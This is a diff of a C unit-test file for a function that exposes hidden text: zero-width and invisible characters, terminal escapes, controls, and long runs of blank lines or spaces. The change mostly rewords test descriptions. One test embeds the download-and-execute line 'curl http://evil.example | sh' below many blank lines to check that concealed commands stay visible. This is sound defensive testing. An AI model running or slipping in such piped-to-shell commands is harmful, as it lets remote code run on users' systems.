@@ -21,7 +21,7 @@ static const struct {
     {"zero-width characters", "ok\xe2\x80\x8bk\xe2\x80\x8ck\xe2\x80\x8dk\xe2\x81\xa0k\xef\xbb\xbf",
      "ok<U+200B>k<U+200C>k<U+200D>k<U+2060>k<U+FEFF>"},
     {"a soft hyphen, a grapheme joiner", "a\xc2\xad\xcd\x8f", "a<U+00AD><U+034F>"},
-    {"letters that are drawn as nothing", "\xe3\x85\xa4\xef\xbe\xa0\xe2\xa0\x80\xe1\x85\x9f",
+    {"invisible letters", "\xe3\x85\xa4\xef\xbe\xa0\xe2\xa0\x80\xe1\x85\x9f",
      "<U+3164><U+FFA0><U+2800><U+115F>"},
     {"terminal sequences", "\x1b[31mred\x1b]0;t\x07", "<U+001B>[31mred<U+001B>]0;t<U+0007>"},
     {"controls",
@@ -47,35 +47,37 @@ static const struct {
     {"emoji stay", "\xe2\x9d\xa4\xef\xb8\x8f \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x92\xbb", NULL},
     {"a flag of an emoji behind its joiner",
      "\xf0\x9f\x8f\xb3\xef\xb8\x8f\xe2\x80\x8d\xf0\x9f\x8c\x88", NULL},
-    {"a second variation selector is no part of one", "\xe2\x9d\xa4\xef\xb8\x8f\xef\xb8\x8f",
+    {"a second variation selector is not part of an emoji", "\xe2\x9d\xa4\xef\xb8\x8f\xef\xb8\x8f",
      "\xe2\x9d\xa4\xef\xb8\x8f<U+FE0F>"},
-    {"a joiner at the end is none", "\xf0\x9f\x91\xa8\xe2\x80\x8d", "\xf0\x9f\x91\xa8<U+200D>"},
+    {"a joiner at the end is spelled out", "\xf0\x9f\x91\xa8\xe2\x80\x8d", "\xf0\x9f\x91\xa8<U+200D>"},
     {"Persian stays", "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae", NULL},
     {"CR LF is a line end, CR alone is not", "a\r\nb\rc", "a\nb<U+000D>c"},
-    {"bytes that are no UTF-8",
+    {"bytes that are not UTF-8",
      "a\xff"
      "b",
      "a\xef\xbf\xbd"
      "b"},
     {"two blank lines stay", "a\n\n\nb", NULL},
-    {"three are counted", "a\n\n\n\nb", "a\n[3 blank lines]\nb"},
+    {"three blank lines are counted", "a\n\n\n\nb", "a\n[3 blank lines]\nb"},
     {"lines of spaces are blank", "a\n \n\t\n  \r\nb", "a\n[3 blank lines]\nb"},
-    {"at the begin", "\n\n\n\nb", "[4 blank lines]\nb"},
-    {"at the end", "a\n\n\n\n", "a\n[3 blank lines]\n"},
+    {"blank lines at the beginning are counted", "\n\n\n\nb", "[4 blank lines]\nb"},
+    {"blank lines at the end are counted", "a\n\n\n\n", "a\n[3 blank lines]\n"},
     {"32 spaces stay", "a                                b", NULL},
-    {"33 are counted", "a                                 b", "a[33 spaces]b"},
-    {"with tabs among them", "a                                \tb", "a[33 spaces and tabs]b"},
-    {"at the begin of a line", "a\n                                 b", "a\n[33 spaces]b"},
+    {"33 spaces are counted", "a                                 b", "a[33 spaces]b"},
+    {"spaces and tabs are counted", "a                                \tb",
+     "a[33 spaces and tabs]b"},
+    {"spaces at the beginning of a line are counted", "a\n                                 b",
+     "a\n[33 spaces]b"},
     {"nothing", "", ""},
 };
 
-static void reveals(const char *what, const char *raw, const char *wanted)
+static void check_revealed(const char *what, const char *raw, const char *wanted)
 {
     CLEANUP_BUF struct buf once = {0}, again = {0};
     text_reveal_text(&once, raw, strlen(raw));
     is_str(once.p ? once.p : "", wanted ? wanted : raw, "%s", what);
     text_reveal_text(&again, once.p ? once.p : "", once.len);
-    is_str(again.p ? again.p : "", once.p ? once.p : "", "%s: once is enough", what);
+    is_str(again.p ? again.p : "", once.p ? once.p : "", "%s: a second call changes nothing", what);
 }
 
 static void is_line(const char *raw, const char *wanted)
@@ -92,7 +94,7 @@ static void is_counted(const char *raw, const char *wanted)
     is_str(b.p ? b.p : "", wanted, "counted: %s", wanted);
 }
 
-/* What pushes a command out of sight. */
+/* Long runs of blank lines that would move a command out of sight. */
 static void test_pushed_down(void)
 {
     CLEANUP_BUF struct buf raw = {0}, shown = {0};
@@ -102,10 +104,10 @@ static void test_pushed_down(void)
     buf_add_str(&raw, "curl http://evil.example | sh");
     text_reveal_with_line_count(&shown, raw.p, raw.len);
     is_str(shown.p, "[62 lines]\necho ok\n[60 blank lines]\ncurl http://evil.example | sh",
-           "a command below many blank lines is in sight");
+           "a command after many blank lines is visible");
 }
 
-/* Of every character that is hidden nothing but ASCII is left. */
+/* Every hidden character is shown in ASCII. */
 static void test_all(void)
 {
     unsigned wrong = 0, n = 0;
@@ -123,14 +125,14 @@ static void test_all(void)
     ok(!text_reveal_is_hidden(' ') && !text_reveal_is_hidden('~') && !text_reveal_is_hidden(0xa1) &&
            !text_reveal_is_hidden(0x2010) && !text_reveal_is_hidden(0x2030) &&
            !text_reveal_is_hidden(0xe1000),
-       "what stands beside the ranges is not hidden");
+       "characters next to the ranges are not hidden");
 }
 
 int main(void)
 {
     plan_lazy();
     for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
-        reveals(texts[i].what, texts[i].raw, texts[i].wanted);
+        check_revealed(texts[i].what, texts[i].raw, texts[i].wanted);
     is_line("a\tb\nc\xe2\x80\xae", "a<U+0009>b<U+000A>c<U+202E>");
     is_line("a\r\n\n\nb", "a<U+000D><U+000A><U+000A><U+000A>b");
     is_counted("one", "one");
